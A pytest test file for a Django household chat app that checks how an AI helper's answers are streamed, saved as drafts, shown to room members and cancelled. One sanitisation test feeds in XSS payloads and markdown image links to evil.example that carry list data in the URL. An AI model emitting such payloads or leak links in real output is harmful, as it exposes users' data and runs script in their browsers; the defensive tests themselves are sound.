"""An answer while it is written: in pieces, to who may hear it, kept for who comes later, and stopped."""

import pytest
from django.test import Client
from django.urls import reverse

from chat.actions import create_channel, send_message
from chat.models import Message, MessageState
from homes.accounts.api.tokens import tokens_for
from pantry import broadcast
from pixie.models import Run, RunStatus, StopReason
from pixie.runs import draft as runs_draft
from pixie.runs import lease, llm_loop, queue
from pixie.runs.draft import answer_id
from pixie.runs.wait import get_answer
from tests.factories import by
from tests.pixie.providers import Says, Wants
from tests.pixie.test_thinking import HARD

STORY = "Once upon a time there was a home with an empty fridge. "


@pytest.fixture
def frames(monkeypatch):
    told = []
    monkeypatch.setattr(broadcast, "send_transient", lambda home_id, said, **more: told.append({**said, **more}))
    return told


def put_together(frames):
    """What a page that heard all frames shows after each."""
    text, shown = "", []
    for frame in frames:
        assert frame["at"] <= len(text)
        text = text[: frame["at"]] + frame["text"]
        shown.append(text)
    return shown


def test_it_comes_in_pieces_that_add_up(tell, talk, provider, frames, monkeypatch):
    monkeypatch.setattr(runs_draft, "FRAME_SECONDS", 0.0)
    provider.plays(Says(STORY * 3 + "😀 Ende", pieces=10, pause=0.02))
    answer = tell(HARD)
    shown = put_together(frames)
    assert len({text for text in shown if text}) > 3
    assert all(answer.body.startswith(text) for text in shown)
    assert {frame["type"] for frame in frames} == {"message_delta"}
    assert {(frame["message_id"], frame["channel_id"], frame["audience"]) for frame in frames} == {
        (answer.pk, talk.pk, talk.pk)
    }


def test_in_a_room_for_all_everybody_hears_it(tell, general, provider, frames):
    tell(f"Pixie, {HARD}", where=general)
    assert {frame["audience"] for frame in frames} == {None}


def test_in_a_private_room_those_in_it(nok, tell, provider, frames):
    room = create_channel("presents", by=by(nok), is_private=True)
    tell(f"Pixie, {HARD}", where=room)
    assert {frame["audience"] for frame in frames} == {room.pk}


def test_pieces_are_gathered(tell, provider, frames, monkeypatch):
    monkeypatch.setattr(runs_draft, "FRAME_SECONDS", 60.0)
    provider.plays(Says(STORY * 20, pieces=1))
    tell(HARD)
    assert len(frames) <= 2


def test_what_is_being_done_is_told(tell, weekly, provider, frames):
    provider.plays(Says(calls=(Wants("list_items"),)), Says(STORY))
    tell(HARD)
    doing = [frame["doing"] for frame in frames]
    assert doing[0] == "Thinking…"
    assert "Looking at your list…" in doing


def test_the_words_so_far_are_kept_for_who_comes_later(nok, sign_in, talk, tell, provider, monkeypatch, frames):
    monkeypatch.setattr(runs_draft, "SAVE_SECONDS", 0.0)
    seen = []

    real = runs_draft.save_draft

    def kept(draft, body, doing=""):
        real(draft, body, doing)
        row = Message.objects.get(pk=draft.pk)
        page = sign_in(nok).get(reverse("chat:channel", args=[nok.home_id, talk.pk])).content.decode()
        seen.append((row.state, row.body, row.body in page, "Stop" in page))

    monkeypatch.setattr(runs_draft, "save_draft", kept)
    provider.plays(Says(STORY * 2, pieces=20, pause=0.06))
    tell(HARD)
    assert len(seen) > 3
    assert {(state, on_page, stop) for state, _body, on_page, stop in seen} == {(MessageState.STREAMING, True, True)}
    assert len({body for _state, body, _on_page, _stop in seen}) > 2


def test_a_draft_is_no_message_yet(nok, pixie, talk, general, provider, events):
    from chat.actions import start_draft
    from chat.unread import unread_total

    asked = send_message(general, f"Pixie, {HARD}", by=by(nok))
    queue.enqueue_runs(pixie.home_id)
    run = Run.objects.get()
    before = events(nok.home)
    start_draft(general, by=by(nok).as_agent(pixie), pk=answer_id(run))
    client = Client(headers={"Authorization": f"Bearer {tokens_for(nok.user, nok)['token']}"})
    url = f"/api/homes/{nok.home_id}/channels/{general.pk}/messages"
    assert [row["id"] for row in client.get(url).json()["results"]] == [str(asked.pk)]
    assert client.get(f"{url}/{answer_id(run)}").json()["state"] == "streaming"
    assert (events(nok.home), unread_total(nok), get_answer(run)) == (before, 0, None)


def test_what_a_model_writes_is_harmless(tell, provider, frames):
    provider.plays(
        Says(
            "Look: <img src=x onerror=alert(1)> ![a](https://evil.example/x?milk) [here](https://evil.example/y) "
            "<script>alert(1)</script> at https://evil.example/z?list=milk and **bold**.",
            pieces=7,
            pause=0.01,
        )
    )
    answer = tell(HARD)
    assert answer.body == "Look:  a here  at evil.example and bold."
    for text in put_together(frames):
        assert "<" not in text and "http" not in text and "milk" not in text


def test_links_of_an_agent_are_none_on_the_page(nok, sign_in, talk, tell, provider):
    provider.plays(Says("See evil.example.com for it <b>now</b>."))
    tell(HARD)
    page = sign_in(nok).get(reverse("chat:channel", args=[nok.home_id, talk.pk])).content.decode()
    assert "See evil.example.com for it" in page
    assert 'href="http://evil' not in page


# Stopping


@pytest.fixture
def working(nok, pixie, talk):
    """A run that a worker holds."""
    send_message(talk, HARD, by=by(nok))
    queue.enqueue_runs(pixie.home_id)
    return queue.claim_run(pixie)


def api(member):
    return Client(headers={"Authorization": f"Bearer {tokens_for(member.user, member)['token']}"})


def test_cancelling_asks_the_worker(nok, working, events):
    before = events(nok.home)
    answer = api(nok).post(f"/api/homes/{nok.home_id}/runs/{working.pk}/cancel")
    assert (answer.status_code, answer.json()["status"]) == (200, "running")
    working.refresh_from_db()
    assert working.stop_asked_at is not None
    assert events(nok.home) == before


def test_what_has_not_begun_is_cancelled_at_once(nok, pixie, talk):
    send_message(talk, HARD, by=by(nok))
    queue.enqueue_runs(pixie.home_id)
    run = Run.objects.get()
    answer = api(nok).post(f"/api/homes/{nok.home_id}/runs/{run.pk}/cancel").json()
    assert (answer["status"], answer["response"]["message"]) == ("cancelled", "Stopped.")
    run.refresh_from_db()
    assert (run.status, run.stop_reason) == (RunStatus.CANCELLED, StopReason.CANCELLED)
    assert queue.process_home(nok.home_id) == 0


def test_cancelling_what_is_finished_is_harmless(nok, tell, weekly):
    tell("We need eggs")
    run = Run.objects.get()
    answer = api(nok).post(f"/api/homes/{nok.home_id}/runs/{run.pk}/cancel").json()
    assert (answer["status"], answer["response"]["message"][:10]) == ("completed", "Added Eggs")


def test_nobody_cancels_what_they_do_not_see(nok, ben, working):
    assert api(ben).post(f"/api/homes/{nok.home_id}/runs/{working.pk}/cancel").status_code == 404
    working.refresh_from_db()
    assert working.stop_asked_at is None


def test_the_button_stops_it(nok, ben, sign_in, working, talk):
    url = reverse("pixie:stop", args=[nok.home_id, answer_id(working)])
    assert sign_in(ben).post(url).status_code == 404
    answer = sign_in(nok).post(url)
    assert (answer.status_code, answer.url) == (302, reverse("chat:channel", args=[nok.home_id, talk.pk]))
    working.refresh_from_db()
    assert working.stop_asked_at is not None


def test_what_tools_did_before_the_stop_stays_and_is_told(nok, tell, weekly, provider, monkeypatch):
    monkeypatch.setattr(llm_loop, "CHECK_SECONDS", 0.0)

    def stopped_meanwhile(body):
        if len(body["messages"]) == 1:
            return Says(calls=(Wants("add_item", {"name": "cake"}),))
        return Says(STORY * 9, pieces=10, pause=0.02)

    provider.brain = stopped_meanwhile
    real, seen = lease.stop_requested, []

    def asked_in_the_second_step(run):
        seen.append(1)
        return real(run) or (len(provider.asked) == 2 and len(seen) > 6)

    monkeypatch.setattr(lease, "stop_requested", asked_in_the_second_step)
    answer = tell(HARD)
    assert answer.state == MessageState.ABORTED
    assert answer.metadata["receipt"]["lines"][0]["name"] == "Cake"
